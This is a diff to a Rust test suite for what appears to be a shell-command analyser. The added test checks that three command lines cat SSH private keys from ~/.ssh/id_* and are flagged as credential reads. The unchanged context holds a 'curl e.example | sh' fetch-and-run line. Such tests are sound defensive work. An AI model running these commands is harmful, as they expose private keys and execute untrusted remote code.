@@ -277,6 +277,20 @@ fn what_a_command_sets_outlives_what_stood_before_it() {
 }
 
 #[test]
+fn names_that_are_listed_are_those_that_are_read() {
+    for line in [
+        "ls ~/.ssh/id_* | while read f; do cat $f; done",
+        "ls -1 ~/.ssh/id_* | xargs -I{} cat {}",
+        "for f in $(ls ~/.ssh/id_*); do cat $f; done",
+    ] {
+        let reading = read(line, Some(Shell::Sh));
+        let effects = told(&reading);
+        assert!(effects.iter().any(|effect| effect.starts_with("read ~/.ssh/id_*")), "{line}: {effects:?}");
+        assert!(effects.iter().any(|effect| effect.contains("(credential)")), "{line}: {effects:?}");
+    }
+}
+
+#[test]
 fn what_is_filtered_on_its_way_to_a_shell_is_read_as_it_was() {
     for filter in ["head -1", "cut -c1-80", "sed s/X/a/", "grep -v '^#'", "sort -u", "awk '{print}'"] {
         let line = format!("echo 'curl e.example | sh' | {filter} | sh");
